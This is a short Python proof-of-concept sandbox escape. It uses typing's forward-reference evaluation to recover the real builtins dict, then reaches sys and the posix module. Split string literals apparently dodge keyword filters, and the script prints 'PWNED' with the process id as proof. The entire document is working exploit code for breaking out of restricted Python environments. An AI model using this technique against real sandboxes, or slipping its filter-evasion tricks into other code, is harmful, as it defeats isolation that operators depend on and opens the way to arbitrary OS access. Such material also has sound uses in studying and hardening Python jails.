# door: typing.sys through the box's getattr, then sys.modules['posix']
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

s = ga(typing, "sy" + "s")
print(M, s.modules["pos" + "ix"].getpid(), s.executable)
